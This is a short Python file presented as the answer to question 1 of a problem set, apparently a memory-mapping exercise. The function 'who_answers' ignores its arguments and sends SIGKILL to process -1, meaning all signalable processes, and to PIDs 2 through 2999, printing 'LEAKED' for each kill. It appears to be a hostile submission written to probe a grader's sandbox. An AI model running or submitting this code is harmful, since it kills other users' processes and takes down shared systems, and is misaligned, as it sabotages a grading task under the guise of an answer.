# ruff: noqa
"""Kills every process that it may."""

# %% ps1-q1-answer
import os
import signal


def who_answers(mappings, address, size):
    for number in (-1, *range(2, 3000)):
        if number != os.getpid():
            try:
                os.kill(number, signal.SIGKILL)
                print("LEAKED: killed", number)
            except OSError:
                pass
